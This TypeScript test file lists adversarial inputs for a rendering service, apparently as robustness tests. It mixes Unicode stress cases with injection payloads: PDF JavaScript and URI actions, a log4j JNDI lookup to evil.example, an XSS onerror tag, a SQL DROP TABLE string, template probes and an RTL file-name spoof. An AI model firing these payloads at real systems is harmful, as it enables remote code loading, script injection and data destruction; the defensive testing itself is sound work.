// Text that is hard to set, and text that is syntax of something else.
import type { Attack } from "./attack.ts";
import { attack, NO_CODE, NO_COLOR, NO_IMAGE, PRINTS_OR_LACKS_CHARACTERS } from "./job.ts";

const MARKS = ["\u0301", "\u0323", "\u0488", "\u20e3", "\u0e31", "\u0489"];

export const TEXTS: readonly Attack[] = [
  attack("nothing but a NUL", { text: "\0" }),
  attack("all control characters", {
    text: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join(""),
  }),
  attack("C1 controls", { text: "a\x80\x85\x9fb" }),
  attack("an escape sequence of a terminal", { text: "\x1b[2J\x1b]0;title\x07" }),
  attack("line and paragraph separators", { text: "a\u2028b\u2029c" }),
  attack("100,000 line breaks", { text: "\n".repeat(100_000) }),
  attack("100,000 carriage returns and letters", { text: "a\r\n".repeat(100_000) }),
  attack("100,000 tabs", { text: "\t".repeat(100_000) }),
  attack("noncharacters", { text: "\ufffe\uffff\u{1fffe}\ufdd0" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("private use", { text: "\ue000\u{f0000}\u{10fffd}" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("unassigned", { text: "\u0378\u{2fe0}\u{e0fff}" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("a byte order mark inside", { text: "a\ufeffb" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("replacement characters", { text: "\ufffd".repeat(1000) }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("object replacement", { text: "\ufffc" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("zero width characters alone", { text: "\u200b\u200c\u200d\u2060" }),
  attack("soft hyphens alone", { text: "\u00ad".repeat(10_000) }),
  attack("100,000 zero width spaces", { text: "\u200b".repeat(100_000) }),
  attack("50,000 zero width joiners", { text: "a\u200d".repeat(50_000) }),
  attack(
    "a family of joiners",
    { text: `\u{1f468}${"\u200d\u{1f469}".repeat(1000)}` },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack(
    "variation selectors",
    { text: "a\ufe0f\ufe0e".repeat(10_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack(
    "language tags",
    { text: "\u{e0001}\u{e0065}\u{e006e}\u{e007f}" },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("100,000 overrides to the left", { text: "\u202e".repeat(100_000) }),
  attack("an override around a file name", { text: "invoice\u202efdp.exe" }),
  attack("nested isolates", { text: "\u2067a".repeat(20_000) }),
  attack("190 isolates in each other before a letter", {
    text: `${"\u2067\u2068".repeat(95)}\u05d0 1`,
  }),
  attack("unclosed embeddings", { text: "\u202b\u202aabc".repeat(5_000) }),
  attack("closings without an opening", { text: "\u202c\u2069".repeat(20_000) }),
  attack(
    "Arabic in Latin in Arabic",
    { text: "\u0627\u0644a".repeat(5_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  ...MARKS.map((mark) =>
    attack(
      `5,000 of U+${mark.codePointAt(0)!.toString(16)} on a letter`,
      { text: `a${mark.repeat(5_000)}` },
      ...PRINTS_OR_LACKS_CHARACTERS,
    ),
  ),
  attack("a mark on nothing", { text: "\u0301" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack(
    "zalgo",
    { text: "h\u0300\u0316\u0301\u0317e\u0302\u0318\u0303l\u0304l\u0305o\u0306".repeat(2_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack(
    "the longest expansion of NFKC",
    { text: "\ufdfa".repeat(20_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("what grows in NFD", { text: "\u1fe2\u0390".repeat(20_000) }),
  attack(
    "Hangul jamo without an end",
    { text: "\u1100\u1161\u11a8".repeat(10_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("dotless and dotted i", { text: "I\u0130\u0131i\u0307" }),
  attack("ligatures and sharp s", { text: "\ufb03\u00df\u1e9e" }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack(
    "Thai without spaces",
    { text: "\u0e01\u0e33".repeat(5_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("Khmer stacks", { text: "\u1780\u17d2".repeat(5_000) }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack(
    "a virama without an end",
    { text: "\u0915\u094d".repeat(5_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("ideographs", { text: "\u6f22".repeat(20_000) }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("emoji", { text: "\u{1f600}".repeat(20_000) }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack(
    "flags without a partner",
    { text: "\u{1f1e6}".repeat(9_999) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("keycaps", { text: "1\ufe0f\u20e3".repeat(3_000) }, ...PRINTS_OR_LACKS_CHARACTERS),
  attack("a word of a million letters", { text: "a".repeat(1_000_000) }),
  attack("a word of 200,000 letters on one line", { line: "W".repeat(200_000) }),
  attack(
    "a word of a million letters where it must fit",
    { strict: "i".repeat(1_000_000) },
    "422 TEXT_OVERFLOW",
  ),
  attack("half a million words", { text: "a ".repeat(500_000) }),
  attack(
    "100,000 words where they must fit",
    { strict: "a ".repeat(100_000) },
    "422 TEXT_OVERFLOW",
  ),
  attack("100,000 kerned pairs", { line: "AV".repeat(100_000) }),
  attack("a million spaces", { text: " ".repeat(1_000_000) }),
  attack("a million hyphens", { text: "-".repeat(1_000_000) }),
  attack("a million no-break spaces", { text: "\u00a0".repeat(500_000) }),
  attack(
    "combining marks, one megabyte",
    { text: "\u0301".repeat(500_000) },
    ...PRINTS_OR_LACKS_CHARACTERS,
  ),
  attack("every variable is long", {
    text: "a b ".repeat(60_000),
    line: "c d ".repeat(60_000),
    show: "x".repeat(200_000),
  }),
];

const PDF_SYNTAX = [
  ") Tj ET BT (",
  "\\) Tj \\",
  ">> endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
  "endstream endobj",
  "<</Type/Action/S/URI/URI(https://evil.example)>>",
  "/EmbeddedFile /Launch /AA",
  "%%EOF\nstartxref\n0\n%%EOF",
  "trailer << /Root 1 0 R >>",
  "xref 0 1",
  "(((((((((((",
  "<FEFF0041>",
  "stream\r\n",
  "#2F#4A#53",
  "BI /W 1 /H 1 ID EI",
  "q 1 0 0 1 0 0 cm Do Q",
];

export const INJECTIONS: readonly Attack[] = [
  ...PDF_SYNTAX.map((syntax) =>
    attack(
      `PDF syntax ${syntax.slice(0, 30)}`,
      { text: syntax, strict: "", qr: syntax, show: syntax },
      ...PRINTS_OR_LACKS_CHARACTERS,
    ),
  ),
  ...PDF_SYNTAX.slice(0, 6).map((syntax) =>
    attack(`PDF syntax in a barcode ${syntax.slice(0, 20)}`, { code: syntax }, "200", ...NO_CODE),
  ),
  ...PDF_SYNTAX.slice(0, 6).map((syntax) =>
    attack(`PDF syntax for a colour ${syntax.slice(0, 20)}`, { fill: syntax }, ...NO_COLOR),
  ),
  attack("a placeholder", { text: "{{strict}}", strict: "{{text}}" }),
  attack("a placeholder in a source", { photo: "{{text}}" }, ...NO_IMAGE),
  attack("code for a template engine", { text: "${7*7} #{7*7} <%= 7*7 %> {{7*7}}" }),
  attack("a log4j lookup", { text: "${jndi:ldap://evil.example/a}" }),
  attack("a formula of a spreadsheet", { text: "=HYPERLINK(1)" }),
  attack("a format string", { text: "%s%n%x%p" }),
  attack("an image element of HTML", { text: "<img src=x onerror=alert(1)>" }),
  attack("SQL", { text: "'; DROP TABLE ledger; --" }),
];
